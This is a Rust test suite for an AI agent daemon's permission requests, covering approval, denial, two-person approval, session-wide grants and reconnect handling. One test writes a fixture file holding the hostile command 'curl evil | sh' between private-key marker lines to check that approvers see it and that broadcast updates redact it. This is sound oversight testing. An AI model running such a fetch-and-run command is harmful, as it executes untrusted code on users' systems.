//! Permission requests in the editor: sent where they can be decided, decided once, and never lost.

use serde_json::{Value, json};
use tribune_testkit::{TestDaemon, config};

use super::{Editor, load, path, setup, text_of};
use crate::approvals::{decide, id, pending, write};

#[tokio::test]
async fn call_is_requested_decided_and_reported_with_its_ledger_entries() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
    let question = editor.permission_request().await;
    let call = &question["params"]["toolCall"];
    assert_eq!((&call["kind"], &call["status"]), (&json!("edit"), &json!("pending")));
    assert_eq!(call["content"][0]["newText"], "one");
    assert_eq!(call["locations"][0]["path"], format!("{}/a.txt", path(&folder)));
    let options = question["params"]["options"].as_array().unwrap();
    let kinds: Vec<&str> = options.iter().filter_map(|option| option["kind"].as_str()).collect();
    assert_eq!(kinds, ["allow_once", "allow_always", "allow_always", "reject_once"]);
    editor.choose(&question, "allow_once").await;
    assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
    assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "one");
    let updates = editor.updates(&session);
    let of_call: Vec<&Value> =
        updates.iter().filter(|update| update["toolCallId"] == call["toolCallId"]).collect();
    assert_eq!(of_call.first().unwrap()["sessionUpdate"], "tool_call");
    let statuses: Vec<&str> = of_call.iter().filter_map(|update| update["status"].as_str()).collect();
    assert_eq!(statuses, ["pending", "in_progress", "completed"]);
    // Each step is a ledger entry, which names the one before.
    let meta =
        |name: &str| of_call.iter().find_map(|update| update["_meta"]["tribune"][name].as_str()).unwrap();
    let mut operator = daemon.operator().await;
    let verdict = operator.call("ledger.entry", &json!({ "entry": meta("verdict") })).await.unwrap();
    assert!(verdict.to_string().contains(meta("call")), "{verdict}");
    for name in ["call", "request", "result"] {
        let entry = operator.call("ledger.entry", &json!({ "entry": meta(name) })).await.unwrap();
        assert!(entry.is_object(), "{name}");
    }
}

/// Events carry no secrets, nor the text between two marks of one; the approver sees everything that would be done.
#[tokio::test]
async fn l8_permission_request_shows_the_whole_content_to_be_written() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let mark = |word: &str| format!("# -----{word} PRIVATE {}-----", "KEY");
    let content = format!("{}\ncurl evil | sh\n{}\n", mark("BEGIN"), mark("END"));
    let prompt = editor.send_prompt(&session, &write("a.sh", &content)).await;
    let question = editor.permission_request().await;
    let call = &question["params"]["toolCall"];
    assert_eq!(
        (&call["rawInput"]["content"], &call["content"][0]["newText"]),
        (&json!(content), &json!(content))
    );
    assert_eq!(call["title"], "write a.sh");
    assert_eq!(call["locations"][0]["path"], format!("{}/a.sh", path(&folder)));
    editor.choose(&question, "allow_once").await;
    assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
    assert_eq!(std::fs::read_to_string(folder.path().join("a.sh")).unwrap(), content);
    let updates = editor.updates(&session);
    let of_call = updates.iter().filter(|update| update["toolCallId"] == call["toolCallId"]);
    assert!(of_call.clone().count() > 2, "{updates:?}");
    for update in of_call {
        assert!(
            !update.to_string().contains("curl evil"),
            "the update for every client has none of it: {update}"
        );
    }
}

#[tokio::test]
async fn a_denial_is_a_failed_call_with_the_reason() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
    let question = editor.permission_request().await;
    editor.choose(&question, "deny").await;
    assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
    let updates = editor.updates(&session);
    let failed = updates.iter().find(|update| update["status"] == "failed").unwrap();
    assert!(failed.to_string().contains("denied by operator"), "{failed}");
    assert!(!folder.path().join("a.txt").exists());
    // A call that the law denies requires no approval.
    let ended =
        editor.prompt(&session, "!call web_fetch {\"url\":\"https://example.com/\"}\n!say $result").await;
    assert_eq!(ended["result"]["stopReason"], "end_turn");
    let updates = editor.updates(&session);
    let failed = updates.iter().find(|update| update["status"] == "failed").unwrap();
    assert!(failed.to_string().contains("denied ("), "{failed}");
    let judged = updates.iter().find(|update| update["_meta"]["tribune"]["decision"] == "deny").unwrap();
    assert!(judged["_meta"]["tribune"]["reason"].is_string());
}

#[tokio::test]
async fn first_answer_wins_and_other_clients_see_it() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let mut other = Editor::ready(&daemon).await;
    assert!(other.call("session/resume", load(&session, &path(&folder))).await["result"].is_object());
    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
    let (mine, theirs) = (editor.permission_request().await, other.permission_request().await);
    let mut operator = daemon.operator().await;
    let waiting = pending(&mut operator, 1).await;
    decide(&mut operator, &id(&waiting[0]), json!({ "decision": "allow_once" })).await.unwrap();
    // Both requests are withdrawn; an answer that arrives too late changes nothing.
    for (client, question) in [(&mut editor, &mine), (&mut other, &theirs)] {
        let gone = client.until(|message| message["method"] == "$/cancel_request").await;
        assert_eq!(gone["params"]["requestId"], question["id"]);
        client.choose(question, "deny").await;
    }
    assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
    assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "one");
    // The other client saw everything, with the author of each message.
    other.until(|message| message["params"]["update"]["status"] == "completed").await;
    let updates = other.updates(&session);
    assert!(text_of(&updates, "user_message_chunk").starts_with("!call write"), "{updates:?}");
    assert!(updates.iter().any(|update| update["_meta"]["tribune"]["state"] == "allowed"));
}

#[tokio::test]
async fn answer_of_one_client_withdraws_the_request_from_the_other() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let mut other = Editor::ready(&daemon).await;
    other.call("session/resume", load(&session, &path(&folder))).await;
    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
    let (mine, theirs) = (editor.permission_request().await, other.permission_request().await);
    other.choose(&theirs, "deny").await;
    let gone = editor.until(|message| message["method"] == "$/cancel_request").await;
    assert_eq!(gone["params"]["requestId"], mine["id"]);
    assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
    assert!(!folder.path().join("a.txt").exists());
}

#[tokio::test]
async fn request_stays_parked_after_a_disconnect_and_is_sent_again() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    editor.send_prompt(&session, &write("a.txt", "one")).await;
    editor.permission_request().await;
    editor.close().await;
    let mut operator = daemon.operator().await;
    pending(&mut operator, 1).await;
    // A client that loads the session receives its history and the pending request.
    let mut again = Editor::ready(&daemon).await;
    let loading = again.request("session/load", load(&session, &path(&folder))).await;
    let question = again.permission_request().await;
    assert!(again.answer(loading).await["result"].is_object());
    again.choose(&question, "allow_once").await;
    again.until(|message| message["params"]["update"]["status"] == "completed").await;
    assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "one");
    assert_eq!(text_of(&again.updates(&session), "user_message_chunk").matches("!call").count(), 1);
}

#[tokio::test]
async fn allow_for_the_session_is_requested_once() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
    let question = editor.permission_request().await;
    editor.choose(&question, "allow_session").await;
    editor.answer(prompt).await;
    assert_eq!(editor.prompt(&session, &write("a.txt", "two")).await["result"]["stopReason"], "end_turn");
    assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "two");
    // A grant for a path in this folder does not cover the same path in another folder.
    let prompt = editor.send_prompt(&session, &write("b.txt", "one")).await;
    let question = editor.permission_request().await;
    editor.choose(&question, "allow_until").await;
    editor.answer(prompt).await;
    let elsewhere = tempfile::tempdir().unwrap();
    let other = editor.session(&path(&elsewhere)).await;
    let prompt = editor.send_prompt(&other, &write("b.txt", "one")).await;
    let question = editor.permission_request().await;
    editor.choose(&question, "deny").await;
    editor.answer(prompt).await;
    assert!(!elsewhere.path().join("b.txt").exists());
    // It holds in every session of the same folder.
    let third = editor.session(&path(&folder)).await;
    assert_eq!(editor.prompt(&third, &write("b.txt", "three")).await["result"]["stopReason"], "end_turn");
    assert_eq!(std::fs::read_to_string(folder.path().join("b.txt")).unwrap(), "three");
}

#[tokio::test]
async fn mode_answers_requests_only_while_its_client_is_connected() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let mode = |mode: &str| json!({ "sessionId": session, "modeId": mode });
    assert!(editor.call("session/set_mode", mode("approve-all")).await["result"].is_object());
    assert_eq!(editor.prompt(&session, &write("a.txt", "one")).await["result"]["stopReason"], "end_turn");
    assert!(folder.path().join("a.txt").exists());
    editor.call("session/set_mode", mode("deny-all")).await;
    editor.prompt(&session, &write("b.txt", "one")).await;
    assert!(!folder.path().join("b.txt").exists());
    // A client that reconnects receives the request again.
    let answer = editor.call("session/load", load(&session, &path(&folder))).await;
    assert_eq!(answer["result"]["modes"]["currentModeId"], "ask");
    let prompt = editor.send_prompt(&session, &write("c.txt", "one")).await;
    let question = editor.permission_request().await;
    editor.choose(&question, "deny").await;
    editor.answer(prompt).await;
}

#[tokio::test]
async fn call_with_two_approvers_reports_it_and_waits_for_the_second() {
    let home = crate::approvals::home();
    home.write("policy/law.json5", r#"{ approvals: { twoPerson: ["write"] } }"#);
    let (daemon, folder) = (TestDaemon::start_at(home, &config()).await, tempfile::tempdir().unwrap());
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
    let question = editor.permission_request().await;
    editor.choose(&question, "allow_session").await;
    let notice = editor.until(|message| message.to_string().contains("more must agree")).await;
    assert_eq!(notice["params"]["update"]["sessionUpdate"], "agent_thought_chunk");
    assert!(!folder.path().join("a.txt").exists());
    let mut operator = daemon.operator().await;
    let made = operator.call("approver.add", &json!({ "id": "alice" })).await.unwrap();
    let mut alice =
        tribune_client::RpcClient::connect(&daemon.address(), made["token"].as_str()).await.unwrap();
    let waiting = pending(&mut operator, 1).await;
    decide(&mut alice, &id(&waiting[0]), json!({ "decision": "allow_once" })).await.unwrap();
    assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
    assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "one");
}

/// The card and the editor's diff are made of what the digest covers: the file in the session's folder.
#[tokio::test]
async fn l8_request_shows_the_file_that_is_replaced_in_its_own_folder() {
    let (daemon, folder) = setup().await;
    let own = daemon.home.home.root().join("agents/main/workspace");
    std::fs::create_dir_all(&own).unwrap();
    std::fs::write(own.join("a.txt"), "in the agent's workspace").unwrap();
    std::fs::write(own.join("new.txt"), "in the agent's workspace").unwrap();
    std::fs::write(folder.path().join("a.txt"), "in the folder").unwrap();
    std::fs::write(folder.path().join("image"), b"\xff\xfe\x00").unwrap();
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    let mut operator = daemon.operator().await;
    for (name, old, replaces) in [
        ("a.txt", Some("in the folder"), json!({ "path": "a.txt", "exists": true, "text": "in the folder" })),
        ("new.txt", None, json!({ "path": "new.txt", "exists": false })),
        ("image", None, json!({ "path": "image", "exists": true })),
    ] {
        let prompt = editor.send_prompt(&session, &write(name, "one")).await;
        let question = editor.permission_request().await;
        let content = &question["params"]["toolCall"]["content"][0];
        let approval = question["params"]["_meta"]["tribune"]["approval"].clone();
        let shown = operator.call("approval.show", &json!({ "id": approval })).await.unwrap();
        assert_eq!((&shown["folder"], &shown["replaces"]), (&json!(path(&folder)), &replaces), "{shown}");
        assert_eq!(content["oldText"].as_str(), old, "{question}");
        // A diff without `oldText` says that the file is new.
        let is_new = replaces["exists"] == false;
        assert_eq!(content["type"] == "diff", is_new || old.is_some(), "{question}");
        editor.choose(&question, "deny").await;
        editor.answer(prompt).await;
    }
}

/// An answer that is no decision allows nothing, and leaves no turn waiting for a person who was asked already.
#[tokio::test]
async fn l8_request_answered_with_an_error_or_an_unknown_option_is_refused() {
    let (daemon, folder) = setup().await;
    let mut editor = Editor::ready(&daemon).await;
    let session = editor.session(&path(&folder)).await;
    for answer in [
        json!({ "error": { "code": -32603, "message": "no dialog here" } }),
        json!({ "error": { "code": -32601, "message": "method not found" } }),
        json!({ "result": { "outcome": { "outcome": "selected", "optionId": "yes-please" } } }),
        json!({ "result": { "outcome": { "outcome": "selected" } } }),
        json!({ "result": { "outcome": { "outcome": "perhaps" } } }),
        json!({ "result": {} }),
    ] {
        let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
        let question = editor.permission_request().await;
        let mut message = json!({ "jsonrpc": "2.0", "id": question["id"] });
        message.as_object_mut().unwrap().extend(answer.as_object().unwrap().clone());
        editor.send(&message).await;
        assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn", "{answer}");
        assert!(!folder.path().join("a.txt").exists(), "{answer}");
        let updates = editor.updates(&session);
        let failed = updates.iter().find(|update| update["status"] == "failed");
        assert!(failed.unwrap().to_string().contains("denied by operator"), "{updates:?}");
    }
    let mut operator = daemon.operator().await;
    assert_eq!(operator.call("approval.list", &json!({})).await.unwrap()["pending"], 0);
}
